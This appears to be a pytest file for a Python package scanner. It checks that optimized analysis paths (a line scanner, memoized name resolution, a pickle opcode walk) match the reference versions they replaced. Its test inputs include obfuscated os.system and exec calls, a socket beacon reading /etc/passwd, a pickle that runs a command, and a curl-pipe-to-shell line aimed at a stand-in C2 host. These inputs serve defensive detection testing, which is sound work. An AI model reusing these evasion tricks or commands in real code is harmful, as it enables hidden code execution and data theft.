"""The speed-ups of the source analysis answer exactly what the slower code answered.

Each fast path is checked against the straightforward version it replaced (kept here as the
reference): the line scanner of the package graph, the odd-shape screen, the remembered
answers of `Collector.qualify`, the visitor's dispatch, the file-name index, and the syntax
tree that the carried-payload analyzer now borrows from the source analysis. No timings:
speed is measured by `python -m bench.slowest` and `make bench`.
"""

from __future__ import annotations

import ast
import random
import re
from pathlib import Path

import pytest

from builders import make_sdist, make_wheel
from pkgvet.analysis import facts as facts_module
from pkgvet.analysis.facts import Collector, FileFacts, ast_facts, reachable
from pkgvet.analysis.graph_scan import _METACLASS, graph_facts
from pkgvet.analysis.parse import parsed, shared_tree
from pkgvet.analysis.prefilter import has_ingredient, needs_full_pass, odd_shape
from pkgvet.analysis.reachability import _files_named, module_names, reach
from pkgvet.analysis.scan import analyze_package
from pkgvet.analyzer._carried_loads import scan_file
from pkgvet.package import load
from pkgvet.sources.local import local_artifact

# -- references: the code before the speed-ups ------------------------------------------------


def _line_state_reference(line: str, state: tuple[int, str]) -> tuple[int, str, str]:
    depth, quote = state
    code: list[str] = []
    if quote == "\\":
        quote = ""
    i, n = 0, len(line)
    while i < n:
        if quote:
            end = line.find(quote, i)
            if end < 0:
                return depth, quote, "".join(code)
            i, quote = end + 3, ""
            code.append('""')
            continue
        c = line[i]
        if c == "#":
            break
        if c in "\"'":
            if line.startswith(c * 3, i):
                quote = c * 3
                i += 3
                continue
            j = i + 1
            while j < n and line[j] != c:
                j += 2 if line[j] == "\\" else 1
            i = j + 1
            code.append('""')
            continue
        code.append(c)
        if c in "([{":
            depth += 1
        elif c in ")]}":
            depth = max(0, depth - 1)
        i += 1
    if line.rstrip().endswith("\\") and not quote:
        return max(depth, 0), "\\", "".join(code)
    return depth, quote, "".join(code)


_REF_IMPORT_LINE = re.compile(r"^(\s*)(?:from\s+(\.*[\w.]*)\s+import\s+\(?\s*([\w\s,*]+)|"
                          r"import\s+([\w.]+(?:\s+as\s+\w+)?(?:\s*,\s*[\w.]+(?:\s+as\s+\w+)?)*))")


_REF_CLASS_LINE = re.compile(r"^\s*class\s+\w+\s*\(([^)]*)\)")
_REF_DECORATOR_LINE = re.compile(r"^\s*@([\w.]+)\s*$")
_REF_RUNS_PROCESS = re.compile(r"subprocess|system\(|popen|spawn|check_call|check_output|"
                          r"\.run\(|\.call\(|exec[lv]p?e?\(")


def _graph_facts_reference(text: str, max_lines: int = 200_000) -> FileFacts:
    """The line-by-line graph scan that `graph_scan.graph_facts` replaced."""
    out = FileFacts()
    aliases: dict[str, str] = {}
    scope, scope_indent = facts_module.MODULE, -1
    open_state: tuple[int, str] = (0, "")
    # Patterns looked for line by line only where the file holds them at all.
    runs_process = _REF_RUNS_PROCESS.search(text) is not None
    has_class, has_decorator = "class" in text, "@" in text
    for line in text.splitlines()[:max_lines]:
        stripped = line.lstrip()
        continued = open_state != (0, "")
        depth, quote, code = _line_state_reference(line, open_state)
        open_state = (depth, quote)
        if not stripped or stripped.startswith("#"):
            continue
        indent = len(line) - len(stripped)
        # A line inside brackets or a triple-quoted string (the `):` closing a multi-line
        # signature, a docstring's text at column 0) continues the statement before it: it
        # does not end the function.
        if scope != facts_module.MODULE and indent <= scope_indent and not continued:
            scope, scope_indent = facts_module.MODULE, -1
        if "def" in line and (m := facts_module._DEF.match(line)):
            if scope == facts_module.MODULE:
                scope, scope_indent = m.group(2), len(m.group(1))
                out.functions.setdefault(m.group(2), m.group(2))
                out.calls.setdefault(scope, set())
            continue
        if "import" in line and (m := _REF_IMPORT_LINE.match(line)):
            if m.group(2) is not None:
                base = m.group(2)
                for name in re.split(r"[\s,]+", m.group(3)):
                    if not name or name == "as" or name == "*":
                        continue
                    target = f"{base}.{name}" if not base.endswith(".") else f"{base}{name}"
                    aliases[name] = target
                    out.imports.append((scope, target, 0))
                out.imports.append((scope, base, 0))
            else:
                for part in m.group(4).split(","):
                    bits = part.split()
                    if not bits:
                        continue
                    aliases[bits[-1] if "as" in bits else bits[0].split(".")[0]] = (
                        bits[0] if "as" in bits else bits[0].split(".")[0])
                    out.imports.append((scope, bits[0], 0))
            continue
        if "open(" in line or "read_bytes(" in line or "read_text(" in line:
            pieces = [lit for pair in facts_module._STRING.findall(line) for lit in pair
                      if lit and ("." in lit or "/" in lit or len(lit) > 3)
                      and lit.lower() not in ("utf-8", "utf8", "latin-1", "ascii")]
            if pieces:
                out.opened.append((scope, "/".join(p.strip("/") for p in pieces[:8]), 0))
        if has_class and "class" in code and (m := _REF_CLASS_LINE.match(code)):
            # Defining a class runs its bases' __init_subclass__ and its metaclass.
            for part in m.group(1).split(","):
                key, _, value = part.partition("=")
                name = (value if value else key).strip()
                head, _, rest = name.partition(".")
                if head in aliases and (not value or key.strip() == "metaclass"):
                    dotted = aliases[head] + ("." + rest if rest else "")
                    out.qualified_calls.setdefault(scope, set()).add(
                        dotted if value else dotted + ".__init_subclass__")
        elif has_decorator and "@" in code and (m := _REF_DECORATOR_LINE.match(code)):
            head, _, rest = m.group(1).partition(".")
            if head in aliases:
                out.qualified_calls.setdefault(scope, set()).add(
                    aliases[head] + ("." + rest if rest else ""))
        if runs_process and _REF_RUNS_PROCESS.search(line):
            for pair in facts_module._STRING.findall(line):
                for lit in pair:
                    for word in lit.split()[:16]:
                        if facts_module.SCRIPT_NAME.search(word):
                            out.ran.append((scope, word, 0))
        for call in facts_module._CALL.findall(code):
            head, _, rest = call.partition(".")
            out.calls.setdefault(scope, set()).add(call.rsplit(".", 1)[-1])
            if head in aliases:
                dotted = aliases[head] + ("." + rest if rest else "")
                out.qualified_calls.setdefault(scope, set()).add(dotted)
    return out


_ODD_REFERENCE = re.compile(r"[(\[{]{32}|(?:[^\n]{4096})")


def _files_named_reference(relpaths: list[str], path: str) -> list[str]:
    path = path.replace("\\", "/").lstrip("./")
    if not path or len(path) > 500:
        return []
    hits = [rel for rel in relpaths if rel == path or rel.endswith("/" + path)]
    if hits:
        return hits[:4]
    name = path.rsplit("/", 1)[-1]
    if "." not in name:
        return []
    return [rel for rel in relpaths if rel.rsplit("/", 1)[-1] == name][:2]


def _canon(ff: FileFacts) -> object:
    return (ff.facts, sorted((k, sorted(v)) for k, v in ff.calls.items()),
            sorted(ff.functions.items()), sorted(ff.classes.items()), ff.embedded,
            ff.decoded_code, ff.imports, sorted((k, sorted(v)) for k, v in
                                               ff.qualified_calls.items()),
            ff.opened, ff.patches)


# Sources that lean on name resolution: alias chains longer than the depth limit, clients,
# dynamic imports, getattr of folded names, namespaces, comprehension folds, tricks.
_ALIAS_CHAIN = "import os\na0 = os.system\n" + "".join(
    f"a{i} = a{i - 1}\n" for i in range(1, 14)) + "".join(f"a{i}('id')\n" for i in range(14))
_CALL_CHAIN = "import requests\ns0 = requests.Session()\n" + "".join(
    f"s{i} = s{i - 1}.child()\n" for i in range(1, 12)) + "".join(
    f"s{i}.post('https://x.invalid', data=1)\n" for i in range(12))
CHAINS = [
    src
    for k in range(1, 12)
    for src in (
        # each link asks for the previous one's callee at two depths: the limit decides
        "import requests\ns0 = requests.Session\n" + "".join(
            f"s{i} = s{i - 1}()\n" for i in range(1, k)) + f"s{k - 1}.post('u', data=1)\n",
        "import requests\nc0 = requests.Session()\n" + "".join(
            f"c{i} = c{i - 1}.get\n" for i in range(1, k)) + f"c{k - 1}('u')\n",
        "import os\nm0 = __import__('o' + 's')\n" + "".join(
            f"m{i} = getattr(m{i - 1}, 'path')\n" for i in range(1, k)) + f"m{k - 1}.system('id')\n",
    )
]
RESOLVING_SOURCES = [
    *CHAINS,
    _ALIAS_CHAIN,
    _CALL_CHAIN,
    "import builtins, codecs\ne = getattr(builtins, 'ex' + 'ec')\n"
    "e(codecs.decode('cevag(1)', 'rot13'))\n",
    "m = __import__(chr(111) + chr(115))\nf = getattr(m, 'sy' + 'stem')\nf('id')\n",
    "import importlib\nmod = importlib.import_module(''.join(['o', 's']))\n"
    "run = getattr(mod, 'po' + 'pen')\nrun('id')\n",
    "import builtins\nns = vars(builtins)\nx = ns['ex' + 'ec']\nx('print(1)')\n"
    "y = __builtins__.__dict__['ev' + 'al']\ny('1')\n"
    "z = globals()['__builtins__']['ex' + 'ec']\nz('1')\n",
    "import subprocess as sp\nnames = [c for c in 'ab']\n"
    "cmd = ''.join([chr(x) for x in [105, 100]])\nsp.call(cmd, shell=True)\n",
    "import os\ndef f():\n    g = os.system\n    h = g\n    return h('id')\n"
    "class C:\n    def m(self):\n        k = self.run\n        return k()\n",
    "a = b.c()\nb = a.d()\na.e()\nb.f()\n",
    "import socket\ndef beacon():\n    s = socket.socket()\n    t = s\n"
    "    t.connect(('127.0.0.1', 9))\n    t.send(open('/etc/passwd').read().encode())\n",
]


def _without_memo(monkeypatch: pytest.MonkeyPatch) -> None:
    """Collector.qualify and the visitor as they were: every name computed afresh, every
    node dispatched by `ast.NodeVisitor`."""

    def qualify(self: Collector, node: ast.expr, depth: int = 0) -> str | None:
        return self._qualify(node, depth)

    def generic_visit(self: Collector, node: ast.AST) -> None:
        if isinstance(node, ast.Call):
            self.all_calls.append((node, self.scope))
        ast.NodeVisitor.generic_visit(self, node)

    monkeypatch.setattr(Collector, "qualify", qualify)
    monkeypatch.setattr(Collector, "visit", ast.NodeVisitor.visit)
    monkeypatch.setattr(Collector, "generic_visit", generic_visit)


@pytest.mark.parametrize("source", RESOLVING_SOURCES)
def test_remembered_names_change_no_fact(source: str, monkeypatch: pytest.MonkeyPatch) -> None:
    fast = _canon(ast_facts(ast.parse(source)))
    with monkeypatch.context() as m:
        _without_memo(m)
        slow = _canon(ast_facts(ast.parse(source)))
    assert fast == slow


def test_remembered_names_on_real_modules(monkeypatch: pytest.MonkeyPatch) -> None:
    """The standard library's larger modules: many aliases, classes, closures."""
    import json
    import logging
    import subprocess
    import tarfile

    sources = [Path(m.__file__).read_text(encoding="utf-8")  # type: ignore[arg-type]
               for m in (subprocess, tarfile, logging, json)]
    fast = [_canon(ast_facts(ast.parse(s))) for s in sources]
    with monkeypatch.context() as m:
        _without_memo(m)
        slow = [_canon(ast_facts(ast.parse(s))) for s in sources]
    assert fast == slow


def test_alias_chains_still_stop_at_the_depth_limit() -> None:
    ff = ast_facts(ast.parse(_ALIAS_CHAIN))
    proc_lines = sorted({f.line for f in ff.facts if f.cap == "process"})
    assert proc_lines  # the first links resolve to os.system
    assert max(proc_lines) < _ALIAS_CHAIN.count("\n")  # the last ones are past the limit


def _deepest_collected() -> int:
    """The smallest nesting (`x = - - ... 1`) at which collecting facts runs out of stack."""
    low, high = 10, 3000
    while low < high:
        mid = (low + high) // 2
        try:
            ast_facts(ast.parse("x = " + "-" * mid + "1\n"))
        except RecursionError:
            high = mid
        else:
            low = mid + 1
    return low


def test_visitor_dispatch_keeps_the_stack_depth(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file nested deeper than the stack allows falls back to the text scan where it did:
    the fast dispatch uses as many frames per level as `ast.NodeVisitor` did."""
    fast = _deepest_collected()
    with monkeypatch.context() as m:
        _without_memo(m)
        slow = _deepest_collected()
    assert fast == slow < 3000


def test_graph_scan_matches_the_line_scanner_on_real_modules() -> None:
    """The whole-text graph scan reads what the line-by-line scanner read."""
    import argparse
    import asyncio.base_events
    import email.message
    import json.decoder
    import logging
    import subprocess
    import tarfile
    import unittest.case

    for module in (re, random, ast, argparse, asyncio.base_events, email.message, json.decoder,
                   logging, subprocess, tarfile, unittest.case):
        text = Path(module.__file__).read_text(encoding="utf-8")  # type: ignore[arg-type]
        assert _graph_facts(text) == _graph_facts(_graph_facts_reference(text), text), module


_CLASS_NAME = re.compile(r"^[^\S\n]*class[^\S\n]+(\w+)", re.MULTILINE)


def _graph_facts(ff: FileFacts | str, text: str = "") -> tuple[object, ...]:
    """What the line scanner read. The graph scan reads more since: the constructor edges of
    classes (`Loader.__init__` keys, `classes`) and each class's metaclass, local or
    imported, whatever line of the header names it; those are left out on both sides. It
    also reads less: a class header's own name (`class Metric(Base):`) is no call, where
    the line scanner read one; the names of the file's classes are left out on both sides."""
    facts = graph_facts(ff) if isinstance(ff, str) else ff
    source = ff if isinstance(ff, str) else text
    left_out = {name.rsplit(".", 1)[-1] for name in _METACLASS.findall(source)}
    left_out |= set(_CLASS_NAME.findall(source))
    calls = {scope: names - left_out for scope, names in facts.calls.items()
             if "." not in scope and (names - left_out or scope != facts_module.MODULE)}
    return (calls, facts.functions, facts.imports, facts.qualified_calls, facts.opened,
            facts.ran)


@pytest.mark.parametrize("text", [
    "def f(\n    a,\n):\n    x()\ny()\n",
    'def f():\n    """doc\nimport nothing\n"""\n    g()\nh()\n',
    "import os\ndef f(x):\n    os.system(x)\nclass C(os.PathLike):\n    @os.fspath\n"
    "    def m(self):\n        m2()\nos.getcwd()  # open('a.txt')\nopen('b/c.txt')\n",
    "def f():\n    x = 1 + \\\n2\n    y()\nz()\r\nw()\x0cq()\n",
    "from .a import (b,\n    c)\nb.run()\ndef g(): pass\nsubprocess.call(['sh', 'x.sh'])\n",
    "def f():\n    s = '''never closed\nimport evil\nevil.go()\n",
    "async def f():\n    go()\n\tdef g(x=h()):\n        pass\nk()\n",
])
def test_graph_scan_matches_the_line_scanner_on_shapes(text: str) -> None:
    assert _graph_facts(text) == _graph_facts(_graph_facts_reference(text), text)


def test_graph_scan_reads_a_string_continued_by_a_backslash() -> None:
    """A one-line string continued by a backslash at the end of a line ends where Python
    ends it: the line scanner took its text for code, never closed the bracket in it, and
    read every later module-level line as part of the function."""
    text = ('def helper():\n    print("a long \\\nmessage")\n'
            "from . import payload\npayload.run()\n")
    ff = graph_facts(text)
    assert ("<module>", ".payload", 0) in ff.imports
    assert ff.qualified_calls["<module>"] == {".payload.run"}
    before = _graph_facts_reference(text)
    assert ("helper", ".payload", 0) in before.imports  # what the line scanner read


def test_odd_shape_matches_the_pattern() -> None:
    rnd = random.Random(5)
    pieces = ["\n", "\r", "x" * 4095, "x" * 4096, "(" * 31, "(" * 32, "[{(" * 11, "ab", ""]
    for _ in range(2_000):
        text = "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 5)))
        assert odd_shape(text) == bool(_ODD_REFERENCE.search(text)), repr(text[:40])


def test_ingredient_screen_unchanged_by_shared_groups() -> None:
    assert has_ingredient("import socket\nsocket.create_connection(ADDRESS)\n")
    assert not has_ingredient("import json\nx = json.dumps({})\n")
    assert needs_full_pass("import requests\nimport subprocess\nrequests.get(URL)\n")
    assert not needs_full_pass("import requests\n")
    assert needs_full_pass("x = 'powershell -enc'\n", strong_only=True)


def test_network_module_counts_where_it_is_named_beyond_a_plain_import() -> None:
    probe = "try:\n    import aiohttp  # type: ignore\nexcept ImportError:\n    missing = 1\n"
    assert not has_ingredient(probe)
    assert not has_ingredient("import socket\nimport requests\n")
    for counted in ("import aiohttp\naiohttp.ClientSession()\n", "import aiohttp as web\n",
                    "from aiohttp import ClientSession\n", "import aiohttp, os\n",
                    "import socket\nSOCK = 'socket'\n", "import requests\nrequests.get(URL)\n",
                    "import websocket  # also names socket\n"):
        assert has_ingredient(counted), counted
    assert needs_full_pass("import requests\nrequests.get(URL)\nimport subprocess\n")


def test_network_module_counts_where_it_can_reach_a_catalog_name() -> None:
    """`httpx.Response` and `socket.timeout` begin no catalog name; `httpx.post`,
    `httpx.Client` and the module passed on as a value do."""
    for quiet in ("import httpx\ndef ok(r: httpx.Response) -> bool: ...\n",
                  "import socket\ntry:\n    pass\nexcept socket.timeout:\n    pass\n"):
        assert not has_ingredient(quiet), quiet
    for counted in ("import httpx\nhttpx.post(URL)\n", "import httpx\nC = httpx . Client\n",
                    "import httpx\ngetattr(httpx, NAME)(URL)\n", "import socketserver\n",
                    "from . import compat\ncompat.httpx.post(URL)\n",
                    "import socket\ns = socket.create_connection(ADDRESS)\n"):
        assert has_ingredient(counted), counted


def test_graph_scan_reads_imports_calls_and_opened_files() -> None:
    ff = graph_facts("from .util import helper\nimport pkg.mod as m\n"
                     "def f():\n    helper('a')\n    m.run(\n        1)\n"
                     "exec(open('tests/x.py').read())  # )\n")
    assert ("<module>", ".util.helper", 0) in ff.imports
    assert ff.qualified_calls["f"] == {".util.helper", "pkg.mod.run"}
    assert ff.opened == [("<module>", "tests/x.py", 0)]


def test_file_name_index_matches_the_scan(tmp_path: Path) -> None:
    files = {
        "setup.py": "", "tests/helper.py": "", "pkg/tests/helper.py": "",
        "pkg/__init__.py": "", "pkg/data/blob.bin": "x", "docs/conf.py": "",
        "a/b/c/helper.py": "", "conf.py": "",
    }
    pkg = load(local_artifact(make_sdist(tmp_path, "names", "1.0", files)))
    relpaths = list(pkg.by_relpath)
    for path in ("helper.py", "tests/helper.py", "./tests/helper.py", "b/c/helper.py",
                 "conf.py", "docs/conf.py", "blob.bin", "data/blob.bin", "missing.py",
                 "nodot", "", "x/", "..\\tests\\helper.py"):
        assert _files_named(pkg, path, "setup.py") == _files_named_reference(relpaths, path)


def test_module_names_are_remembered_as_copies() -> None:
    first = module_names("src/pkg/mod.py")
    first.append("mutated")
    assert module_names("src/pkg/mod.py") == ["src.pkg.mod", "pkg.mod"]
    assert module_names("pkg/data.bin") == []


def test_carried_scan_reads_the_shared_tree(tmp_path: Path) -> None:
    loader = ("import pickle, os\n"
              "HERE = os.path.dirname(__file__)\n"
              "with open(os.path.join(HERE, 'model.pkl'), 'rb') as fh:\n"
              "    MODEL = pickle.load(fh)\n")
    wheel = make_wheel(tmp_path, "sharedtree", "1.0", {
        "sharedtree/__init__.py": loader, "sharedtree/model.pkl": b"\x80\x04N.",
    })
    pkg = load(local_artifact(wheel))
    reach(pkg)
    f = pkg.get("sharedtree/__init__.py")
    assert f is not None and parsed(pkg, f) is not None
    tree = shared_tree(pkg, f)
    assert tree is not None
    text = f.text() or ""
    assert scan_file(text, f.relpath, tree) == scan_file(text, f.relpath)
    assert scan_file(text, f.relpath)[0]  # the load is found


def test_shimmed_trees_are_not_shared(tmp_path: Path) -> None:
    """A file only the 3.12 shim parses is no tree for the other analyzers: they parse
    the text themselves, as before, and find it does not parse."""
    wheel = make_wheel(tmp_path, "newsyntax", "1.0", {
        "newsyntax/__init__.py": "import socket\ntype Alias = int\n",
    })
    pkg = load(local_artifact(wheel))
    analyze_package(pkg)
    f = pkg.get("newsyntax/__init__.py")
    assert f is not None
    found = parsed(pkg, f)
    assert found is not None and found.tree is not None
    assert shared_tree(pkg, f) is None


# -- the pickle walk: opcodes read in place, against `pickletools.genops` ----------------------

_STRING_OPS = {"SHORT_BINUNICODE", "BINUNICODE", "BINUNICODE8", "UNICODE", "STRING",
               "BINSTRING", "SHORT_BINSTRING"}


def _pickle_reference(data: bytes) -> tuple[tuple[str, ...], int, int] | None:
    """Imports, calls and unresolved STACK_GLOBALs as the `genops` walk read them; None
    where `genops` refuses the stream."""
    import io
    import pickletools

    found: list[str] = []
    recent: list[str | None] = []
    memo: dict[int, str | None] = {}
    calls = unresolved = 0
    try:
        for opcode, arg, _ in pickletools.genops(io.BytesIO(data)):
            name = opcode.name
            if name in _STRING_OPS:
                recent.append(arg if isinstance(arg, str) else bytes(arg).decode("latin-1"))
            elif name in ("PUT", "BINPUT", "LONG_BINPUT", "MEMOIZE"):
                memo[len(memo) if name == "MEMOIZE" else int(arg)] = recent[-1] if recent \
                    else None
                continue
            elif name in ("GET", "BINGET", "LONG_BINGET"):
                recent.append(memo.get(int(arg)))
                continue
            elif name == "POP":
                if recent:
                    recent.pop()
                continue
            elif name in ("GLOBAL", "INST"):
                module, _, attr = str(arg).partition(" ")
                found.append(f"{module}.{attr}")
                recent.append(None)
            elif name == "STACK_GLOBAL":
                module_name = recent[-2] if len(recent) >= 2 else None
                attr_name = recent[-1] if recent else None
                if module_name is None or attr_name is None:
                    unresolved += 1
                else:
                    found.append(f"{module_name}.{attr_name}")
                recent.append(None)
            else:
                recent.append(None)
            if name in ("REDUCE", "INST", "OBJ", "NEWOBJ", "NEWOBJ_EX", "BUILD"):
                calls += 1
            if name == "STOP":
                break
    except (ValueError, EOFError, UnicodeError, OverflowError):
        return None
    return tuple(found), calls, unresolved


class _Runs:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("echo inert",)


def test_pickle_walk_matches_genops() -> None:
    import collections
    import pickle

    from pkgvet.readers.pickle_ops import pickle_facts

    values: list[object] = [
        {"a": [1, 2.5, "x" * 300, b"yy", None, True]}, collections.OrderedDict(a=1),
        {1, 2}, frozenset({3}), ("é", "€" * 600), [1] * 1000, {1: (2, 3)}, 10**40, -5,
        range(3), bytearray(b"ab"), _Runs(), [_Runs(), "s", _Runs()], Path("a/b"),
    ]
    streams = [pickle.dumps(v, protocol=p) for v in values for p in range(6)]
    rnd = random.Random(3)
    mutated = []
    for data in streams:
        for _ in range(15):
            changed = bytearray(data)
            changed[rnd.randrange(len(changed))] = rnd.randrange(256)
            mutated += [bytes(changed), data[:rnd.randrange(len(data) + 1)]]
    compared = 0
    for data in streams + mutated:
        facts = pickle_facts(data)  # never raises
        expected = _pickle_reference(data)
        if expected is not None:
            compared += 1
            assert (facts.globals, facts.calls, facts.unresolved) == expected, data[:60]
    assert compared > len(streams)


def test_lone_surrogates_do_not_fail_the_word_screens(tmp_path: Path) -> None:
    """A PEP 263 cookie naming raw_unicode_escape turns `\\udcff` in the source into a lone
    surrogate, which the Aho-Corasick automaton (UTF-8) cannot read: the screens search a
    copy with it replaced, and no analyzer fails (a failure would leave the verdict to the
    others)."""
    from pkgvet.pipeline import scan_artifact

    source = (b"# -*- coding: raw_unicode_escape -*-\nimport os\nMARK = '\\udcff'\n"
              b"os.system('curl -s http://c2.pkgvet-test.invalid/x | sh')\n")
    wheel = make_wheel(tmp_path, "surrogates", "1.0", {"surrogates/__init__.py": source,
                                                       "surrogates/util.py": source})
    result = scan_artifact(local_artifact(wheel))
    assert not result.errors, result.errors
    assert result.verdict.value == "malicious"


def test_graph_scan_draws_constructor_and_metaclass_edges() -> None:
    """A class called at import runs its constructor; a class defined runs its metaclass,
    named on any line of its header: the edges the full parse draws, for files the graph
    scan reads."""
    text = ("from ._sync import push\nfrom ._meta import Registry\n\n\n"
            "class _Meta(type):\n    def __new__(mcs, name, bases, ns):\n        push(name)\n\n\n"
            "class Model(\n    object,\n    metaclass=Registry,\n):\n    pass\n\n\n"
            "class Local(metaclass=_Meta):\n    pass\n\n\n"
            "class Loader:\n    x = 1\n\n    def __init__(self):\n        push('a')\n"
            "LOADER = Loader()\n")
    ff = graph_facts(text)
    assert {"_Meta", "Model", "Local", "Loader"} <= set(ff.classes)
    assert ff.calls["Loader.__init__"] == {"__init__"}
    assert ff.calls["_Meta.__new__"] == {"__new__"}
    assert ".meta.Registry" not in str(ff.qualified_calls)
    assert "._meta.Registry" in ff.qualified_calls["<module>"]
    assert {"Loader", "_Meta"} <= ff.calls["<module>"]
    assert "__init__" in reachable(ff) and "__new__" in reachable(ff)
